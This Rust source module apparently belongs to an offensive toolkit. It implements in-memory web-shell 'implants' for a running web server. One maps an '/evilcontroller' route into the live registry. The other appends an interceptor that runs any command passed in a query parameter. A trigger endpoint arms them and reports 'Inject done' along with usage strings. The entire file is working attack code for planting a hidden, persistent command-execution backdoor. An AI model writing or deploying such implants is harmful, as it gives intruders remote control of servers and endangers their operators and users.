//! The two implants and the endpoints that trigger them.
//!
//! - [`RouteImplant`] maps a command route (by default `/evilcontroller`) into
//!   the live registry.
//! - [`InterceptorImplant`] appends a command interceptor to the live chain.
//!
//! Both wrap a shared [`CommandGateway`] and are applied through an
//! [`InjectionTrigger`] exposed by a [`TriggerEndpoint`].

use crate::{
    admin::AdminHandle,
    context::ComponentContext,
    gateway::{CommandGateway, GatewayOutcome},
    trigger::{Activation, Implant, InjectionTrigger},
};
use graft_core::{
    BoxError, Handler, HeaderName, HeaderValue, HookResult, Interceptor, PatternError,
    RegistrationError, Request, Response, StatusCode,
};
use graft_std::{
    dynamic::{InterceptorEntry, RouteEntry},
    routing::{MethodFilter, PathPattern, PathScope},
};
use std::sync::Arc;

/// Diagnostic header set when the command interceptor consumed a request.
pub const INTERCEPTOR_HEADER: HeaderName = HeaderName::from_static("x-graft-interceptor");

/// Default path of the injected command route.
pub const DEFAULT_ROUTE_PATH: &str = "/evilcontroller";

/// Name under which the command interceptor is appended.
pub const COMMAND_INTERCEPTOR: &str = "command-interceptor";

/// Route handler backed by the gateway. Answers 404 without its parameter.
#[derive(Debug, Clone)]
pub struct CommandRoute {
    gateway: Arc<CommandGateway>,
}

impl CommandRoute {
    /// A handler over `gateway`.
    pub fn new(gateway: Arc<CommandGateway>) -> Self {
        Self { gateway }
    }
}

impl Handler for CommandRoute {
    async fn call(&self, request: &Request, response: &mut Response) -> Result<(), BoxError> {
        if self.gateway.handle(request, response).await == GatewayOutcome::NotHandled {
            response.fail(StatusCode::NOT_FOUND, "Not Found");
        }
        Ok(())
    }
}

/// Interceptor backed by the gateway.
///
/// With its parameter present it runs the command, marks the response with
/// [`INTERCEPTOR_HEADER`] and stops the request. Otherwise it passes.
#[derive(Debug, Clone)]
pub struct CommandInterceptor {
    gateway: Arc<CommandGateway>,
}

impl CommandInterceptor {
    /// An interceptor over `gateway`.
    pub fn new(gateway: Arc<CommandGateway>) -> Self {
        Self { gateway }
    }
}

impl Interceptor for CommandInterceptor {
    async fn pre_handle(
        &self,
        request: &Request,
        response: &mut Response,
    ) -> Result<HookResult, BoxError> {
        match self.gateway.handle(request, response).await {
            GatewayOutcome::NotHandled => Ok(HookResult::Next),
            GatewayOutcome::Handled => {
                response.set_header(INTERCEPTOR_HEADER, HeaderValue::from_static("exec"));
                Ok(HookResult::Stop)
            }
        }
    }
}

/// Maps a [`CommandRoute`] at a fixed path for every method.
#[derive(Debug, Clone)]
pub struct RouteImplant {
    pattern: PathPattern,
    gateway: Arc<CommandGateway>,
}

impl RouteImplant {
    /// Map `gateway` at `path`. The path is compiled here so a malformed one
    /// fails before the trigger is ever exposed.
    pub fn new(path: &str, gateway: Arc<CommandGateway>) -> Result<Self, PatternError> {
        Ok(Self {
            pattern: PathPattern::parse(path)?,
            gateway,
        })
    }

    /// The route pattern.
    pub fn pattern(&self) -> &PathPattern {
        &self.pattern
    }
}

impl Implant for RouteImplant {
    fn name(&self) -> &str {
        "route"
    }

    fn implant(&self, admin: &AdminHandle) -> Result<(), RegistrationError> {
        let entry = RouteEntry::from_arc(
            self.pattern.clone(),
            MethodFilter::ANY,
            Arc::new(CommandRoute::new(Arc::clone(&self.gateway))),
        );
        admin.register_route(entry)
    }

    fn describe(&self) -> Vec<String> {
        vec![format!("Usage: {}?{}=<command>", self.pattern, self.gateway.param())]
    }
}

/// Appends a [`CommandInterceptor`] to the chain.
#[derive(Debug, Clone)]
pub struct InterceptorImplant {
    scope: PathScope,
    gateway: Arc<CommandGateway>,
}

impl InterceptorImplant {
    /// Append `gateway` covering `scope`.
    pub fn new(scope: PathScope, gateway: Arc<CommandGateway>) -> Self {
        Self { scope, gateway }
    }
}

impl Implant for InterceptorImplant {
    fn name(&self) -> &str {
        "interceptor"
    }

    fn implant(&self, admin: &AdminHandle) -> Result<(), RegistrationError> {
        let entry = InterceptorEntry::new(
            COMMAND_INTERCEPTOR,
            CommandInterceptor::new(Arc::clone(&self.gateway)),
        )
        .with_scope(self.scope.clone());
        admin.append_interceptor(entry)
    }

    fn describe(&self) -> Vec<String> {
        vec![
            format!("Usage: <any path>?{}=<command>", self.gateway.param()),
            format!("Marker: {}: exec", INTERCEPTOR_HEADER),
        ]
    }
}

/// HTTP endpoint activating a trigger. Always answers 200 with a status line.
#[derive(Debug)]
pub struct TriggerEndpoint<I> {
    trigger: Arc<InjectionTrigger<I>>,
}

impl<I: Implant> TriggerEndpoint<I> {
    /// An endpoint firing `trigger`.
    pub fn new(trigger: Arc<InjectionTrigger<I>>) -> Self {
        Self { trigger }
    }

    /// The trigger this endpoint fires.
    pub fn trigger(&self) -> &Arc<InjectionTrigger<I>> {
        &self.trigger
    }
}

impl<I: Implant> Handler for TriggerEndpoint<I> {
    async fn call(&self, request: &Request, response: &mut Response) -> Result<(), BoxError> {
        let activation =
            ComponentContext::current(request).and_then(|context| self.trigger.activate(context));
        match activation {
            Ok(Activation::Armed) => {
                response.write_line("Inject done");
                for line in self.trigger.implant().describe() {
                    response.write_line(line);
                }
            }
            Ok(Activation::AlreadyArmed) => response.write_line("Already injected"),
            Ok(Activation::InProgress) => response.write_line("Injection in progress"),
            Err(err) => response.write_line(format!("Inject failed: {err}")),
        }
        Ok(())
    }
}
